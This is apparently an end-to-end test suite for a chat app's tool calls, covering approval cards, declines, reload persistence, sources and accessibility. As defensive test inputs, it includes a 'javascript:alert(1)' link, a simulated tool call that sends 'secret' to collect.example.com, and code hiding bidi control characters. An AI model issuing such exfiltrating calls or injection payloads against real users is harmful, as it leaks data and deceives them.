import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { colours, everything, violations } from "./axe";
import { newVisitor, openBrowser } from "./browser";
import { CallingModel } from "./calling-model";
import { AccountPages, somebody } from "./pages/account";
import { ChatPage } from "./pages/chat";
import { SearchService } from "./search-service";
import { Server } from "./server";

describe("tools in a chat", () => {
  let browser: Browser;
  let calling: CallingModel;
  let search: SearchService;
  let server: Server;

  beforeAll(async () => {
    browser = await openBrowser();
    calling = await CallingModel.start();
    search = await SearchService.start([
      { url: "https://example.com/valve", title: "The <b>valve</b>", content: "It opens at 6.2 bar." },
      { url: "javascript:alert(1)", title: "No address", content: "This has none." },
      { url: "https://example.org/pump", title: "The pump", content: "It pumps." },
    ]);
    server = await Server.start({
      OPENAI_BASE_URL: calling.model.url,
      LLM_MODEL: "gpt-5.4-mini",
      SEARCH_URL: search.url,
    });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    calling?.model.stop();
    search?.stop();
  });

  const lines = (page: Page) => page.getByTestId("tool-call");
  const cards = (page: Page) => page.getByTestId("approval-card");
  const texts = async (of: Locator) => (await of.allInnerTexts()).map((text) => text.replaceAll(/\s+/g, " "));

  /** Switches tools on for the open chat. */
  async function switchOn(page: Page, ...names: string[]): Promise<void> {
    await page.getByTestId("composer-menu-button").click();
    await page.getByTestId("composer-tools").click();
    for (const name of names) await page.getByRole("switch", { name, exact: true }).check();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
  }

  async function enter() {
    const { page, complaints } = await newVisitor(browser, server.url, { reducedMotion: "reduce" });
    const account = somebody();
    await new AccountPages(page).enter(account);
    return { page, complaints, chat: new ChatPage(page), account };
  }

  /** A chat whose answer waits for a decision on some code. */
  async function waiting(question: string, code = "print(1)") {
    const visit = await enter();
    await switchOn(visit.page, "Python");
    await visit.chat.ask(calling.plan(question, [["run_code", { code }]]));
    await cards(visit.page).waitFor();
    return visit;
  }

  it("shows calls as quiet lines that open to arguments and results, also after a reload", async () => {
    const { page, complaints, chat } = await enter();
    await switchOn(page, "Calculator", "Clock");
    const question = calling.plan(
      "Sums, please",
      [
        ["calculate", { expression: "19 * 12.5" }],
        ["calculate", { expression: "2^10" }],
      ],
      [["current_time", {}]],
    );
    await chat.ask(question);
    expect(await chat.ended(1)).toContain("That is all.");
    const expected = [
      expect.stringMatching(/^Calculated · 19 \* 12\.5 · \d+(\.\d)? s$/),
      expect.stringMatching(/^Calculated · 2\^10 · \d+(\.\d)? s$/),
      expect.stringMatching(/^Looked at the clock · \d+(\.\d)? s$/),
    ];
    expect(await texts(lines(page))).toEqual(expected);
    await page.reload();
    await chat.ended(1);
    expect(await texts(lines(page))).toEqual(expected);
    await lines(page).first().getByRole("button").press("Enter");
    const details = page.getByRole("region", { name: "Calculated" });
    expect(await texts(details)).toEqual(["Arguments expression 19 * 12.5 Result 237.5"]);
    await page.getByTestId("chat-title").waitFor(); // loaded after the chat
    expect(await violations(page, everything)).toEqual([]);
    await page.emulateMedia({ colorScheme: "dark" });
    expect(await violations(page, colours)).toEqual([]);
    expect(complaints.list()).toEqual([]);
  });

  it("begins new chats with the tools that were chosen last, and keeps each chat's own", async () => {
    const { page, chat } = await enter();
    const mark = page.getByTestId("tools-mark");
    await page.getByTestId("composer-menu-button").press("Enter");
    await page.getByTestId("composer-tools").press("Enter");
    const clock = page.getByRole("switch", { name: "Clock" });
    await clock.press(" ");
    expect(await violations(page, everything)).toEqual([]);
    await page.keyboard.press("Escape");
    await chat.ask(calling.plan("What time is it?", [["current_time", {}]]));
    expect(await chat.ended(1)).toContain("Looked at the clock");
    await mark.click();
    await clock.uncheck();
    await page.getByRole("switch", { name: "Calculator" }).check();
    await page.getByRole("switch", { name: "Your chats" }).check();
    await page.keyboard.press("Escape");
    await chat.newChat();
    expect(await mark.getAttribute("aria-label")).toBe("Tools: 2 on");
    await chat.sessions.first().click();
    await chat.ended(1);
    await page.reload();
    await mark.click();
    await page.getByRole("switch", { name: "Calculator", checked: true }).waitFor();
    expect(await clock.isChecked()).toBe(false);
  });

  it("opens the source of a number in an answer, and asks before it reads a page that was not named", async () => {
    const { page, complaints, chat } = await enter();
    const foreign: string[] = [];
    page.on("request", (request) => foreign.push(new URL(request.url()).host));
    await switchOn(page, "Web search", "Web page");
    const question = calling.plan(
      "When does the valve open?",
      [["web_search", { query: "valve" }]],
      [["read_page", { url: "https://collect.example.com/?what=secret" }]],
    );
    calling.close(question, "At 6.2 bar [1].");
    await chat.ask(question);
    await cards(page).getByText("https://collect.example.com/?what=secret").waitFor();
    await cards(page).getByRole("button", { name: "Decline" }).click();
    expect(await chat.ended(1)).toContain("At 6.2 bar");
    expect(await texts(lines(page))).toEqual([
      expect.stringMatching(/^Searched the web · 2 results · \d+(\.\d)? s$/),
      "Web page · declined",
    ]);
    await page.reload();
    await chat.answer(1).getByRole("button", { name: "Source 1: The valve" }).click();
    const source = page.getByTestId("source-view");
    expect(await texts(source)).toEqual([
      expect.stringMatching(/^The valve example\.com .*It opens at 6\.2 bar\./),
    ]);
    const link = source.getByRole("link");
    expect(await link.getAttribute("href")).toBe("https://example.com/valve");
    expect(await link.getAttribute("rel")).toContain("noopener");
    await page.keyboard.press("Escape");
    await page.getByTestId("sources").getByRole("button", { name: "2 sources" }).click();
    await page.getByRole("button", { name: "Source 2: The pump" }).waitFor();
    expect(new Set(foreign)).toEqual(new Set([new URL(server.url).host]));
    expect(complaints.list()).toEqual([]);
  });

  it("keeps a decision waiting over a reload, says so everywhere, and goes on after it", async () => {
    const { page, complaints, chat } = await waiting("Run it", "print('<b>1</b>')\nprint(2)\u202e\u200b");
    const hint = page.getByText("The answer waits for your decision above.");
    await hint.waitFor();
    await page.reload();
    await cards(page).waitFor();
    await hint.waitFor();
    expect(await texts(cards(page))).toEqual([
      expect.stringMatching(/Run this Python code\? .* print\('<b>1<\/b>'\) print\(2\)/),
    ]);
    expect(await texts(page.getByTestId("hidden-characters"))).toEqual(["U+202E U+200B"]);
    await page.getByTestId("chat-title").waitFor(); // loaded after the chat
    expect(await violations(page, everything)).toEqual([]);
    await chat.input.fill("Hello?");
    await page.keyboard.press("Enter");
    expect(await chat.input.inputValue()).toBe("Hello?");
    expect(await chat.questions.count()).toBe(1);
    await chat.newChat();
    await page.getByTestId("waiting-mark").waitFor();
    await chat.sessions.first().click();
    await cards(page).getByRole("button", { name: "Decline" }).click();
    expect(await chat.ended(1)).toContain("That is all.");
    expect(await texts(lines(page))).toEqual(["Python · declined"]);
    await page.getByTestId("waiting-mark").waitFor({ state: "detached" });
    expect(await chat.input.inputValue()).toBe("Hello?");
    await chat.send.click();
    await chat.ended(2);
    expect(complaints.list()).toEqual([]);
  });

  it("shows on one device what was decided on another, whose decision counts", async () => {
    const { page, chat, complaints } = await waiting("Run it elsewhere");
    const other = await page.context().newPage();
    await other.goto(page.url());
    await cards(other).waitFor();
    // Its decision comes too late, before it knows.
    complaints.expect(409);
    await page.route("**/tools/c1", async (route) => {
      await cards(other).getByRole("button", { name: "Decline" }).click();
      await new ChatPage(other).ended(1);
      await route.continue();
    });
    await cards(page).getByRole("button", { name: "Decline" }).click();
    expect(await chat.ended(1)).toContain("That is all.");
    expect(await texts(lines(page))).toEqual(["Python · declined"]);
    await page.unrouteAll({ behavior: "wait" });
  });

  it("declines when the answer is stopped or its question is edited", async () => {
    const { page, chat } = await waiting("Run and stop");
    await chat.stop.click();
    await chat.ended(1, "stopped");
    expect(await texts(lines(page))).toEqual(["Python · declined"]);
    await chat.ask(calling.plan("Run again", [["run_code", { code: "print(3)" }]]));
    await cards(page).waitFor();
    await page.getByRole("button", { name: "Edit" }).last().click();
    await page.getByTestId("edit-input").fill("Never mind");
    await page.keyboard.press("Enter");
    await chat.ended(2);
    expect(await cards(page).count()).toBe(0);
    await page.getByRole("button", { name: "Previous version" }).click();
    await chat.ended(2, "stopped");
    expect(await texts(lines(page))).toEqual(["Python · declined", "Python · declined"]);
  });

  it("is German for German readers, and fits a phone", async () => {
    const { page, chat } = await enter();
    await page.context().addCookies([{ name: "language", value: "de", url: server.url }]);
    await page.reload();
    await page.setViewportSize({ width: 390, height: 844 });
    await switchOn(page, "Rechner", "Python-Code");
    await chat.ask(
      calling.plan(
        "Rechne",
        [["calculate", { expression: "1+1" }]],
        [["run_code", { code: "x".repeat(500) }]],
      ),
    );
    await cards(page).waitFor();
    expect(await texts(lines(page))).toEqual([expect.stringMatching(/^Gerechnet · \d+(,\d)? s$/)]);
    expect(await texts(cards(page))).toEqual([expect.stringContaining("Diesen Python-Code ausführen?")]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390);
    await cards(page).getByRole("button", { name: "Ablehnen" }).click();
    await chat.ended(1);
    expect((await texts(lines(page))).at(-1)).toBe("Python-Code · abgelehnt");
  });
});
